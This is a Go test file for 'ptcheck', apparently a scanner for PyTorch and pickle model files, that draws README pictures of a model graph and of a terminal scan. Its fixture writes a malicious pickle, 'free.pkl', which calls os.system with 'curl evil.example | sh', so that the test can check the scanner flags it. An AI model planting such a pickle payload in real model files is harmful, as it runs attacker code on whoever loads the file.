package cmd_test

import (
	"bytes"
	"errors"
	"fmt"
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// TestPictures draws the pictures of README.md that are made of what commands
// print: go test ./cmd -run Pictures -update writes them again.
func TestPictures(t *testing.T) {
	t.Parallel()
	same := func(name string, got []byte) {
		t.Helper()
		name = filepath.Join("..", "docs", "pictures", name)
		if *update {
			if err := os.WriteFile(name, got, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if want, err := os.ReadFile(name); err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s is not what the command draws today (%v)", name, err)
		}
	}
	command := filepath.Join(binaries(t), "ptcheck")

	drawn := filepath.Join(t.TempDir(), "net.svg")
	const program = "../convert/exported/testdata/torch-2.15-bert_manual_dynamic.pt2"
	if out, err := exec.Command(command, "--graph", "--graph-svg", drawn, program).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	picture, err := os.ReadFile(drawn)
	if err != nil {
		t.Fatal(err)
	}
	same("network.svg", picture)

	cmd := exec.Command(command, "--scan", "models")
	cmd.Dir = scanned(t)
	out, err := cmd.Output()
	var exit *exec.ExitError
	if !errors.As(err, &exit) || exit.ExitCode() != 3 {
		t.Fatalf("the scan of dangerous files ends with %v", err)
	}
	same("scan.svg", terminal("$ ptcheck --scan models\n"+string(out)))
}

// scanned returns a folder with a folder "models": a clean file, one that was
// cut, one with a class that nobody knows, and one that runs a command.
func scanned(t *testing.T) string {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "models"), 0o700); err != nil {
		t.Fatal(err)
	}
	weights, err := os.ReadFile("../fixtures/lenet-fashion.pt")
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"lenet.pt":   string(weights),
		"broken.pt":  string(weights[:100_000]),
		"custom.pkl": "cmodels.own\nNetwork\n)R.",
		"free.pkl":   "cos\nsystem\n(S'curl evil.example | sh'\ntR.",
	} {
		writeFile(t, filepath.Join(dir, "models", name), text)
	}
	return dir
}

// terminal draws what a terminal shows.
func terminal(text string) []byte {
	const columns, wide, high, edge = 96, 7.8, 19, 16
	var lines []string
	for line := range strings.Lines(text) {
		line = strings.TrimRight(line, "\n")
		for utf8.RuneCountInString(line) > columns {
			cut := strings.LastIndexByte(line[:columns], ' ')
			lines = append(lines, line[:cut])
			line = strings.Repeat(" ", 13) + line[cut:]
		}
		lines = append(lines, line)
	}
	var b bytes.Buffer
	width, height := columns*wide+2*edge, len(lines)*high+2*edge
	fmt.Fprintf(&b, `<svg xmlns="http://www.w3.org/2000/svg" width="%g" height="%d" viewBox="0 0 %[1]g %[2]d" role="img" aria-label="a terminal">`+"\n", width, height)
	b.WriteString(`<style>text { font: 13px ui-monospace, SFMono-Regular, Menlo, Consolas, "DejaVu Sans Mono", monospace; white-space: pre; fill: #e8ebee } .clean { fill: #63c998 } .danger { fill: #f08d75; font-weight: 700 } .unknown, .incomplete { fill: #e3b45c }</style>` + "\n")
	fmt.Fprintf(&b, `<rect width="%g" height="%d" rx="8" fill="#14181c"/>`+"\n", width, height)
	for i, line := range lines {
		var s strings.Builder
		for _, word := range strings.SplitAfter(line, " ") {
			escaped := html.EscapeString(word)
			switch class := strings.Trim(word, " :"); class {
			case "clean", "danger", "unknown", "incomplete":
				escaped = fmt.Sprintf(`<tspan class="%s">%s</tspan>`, class, escaped)
			}
			s.WriteString(escaped)
		}
		fmt.Fprintf(&b, `<text x="%d" y="%d" xml:space="preserve">%s</text>`+"\n", edge, edge+high*i+13, s.String())
	}
	b.WriteString("</svg>\n")
	return b.Bytes()
}
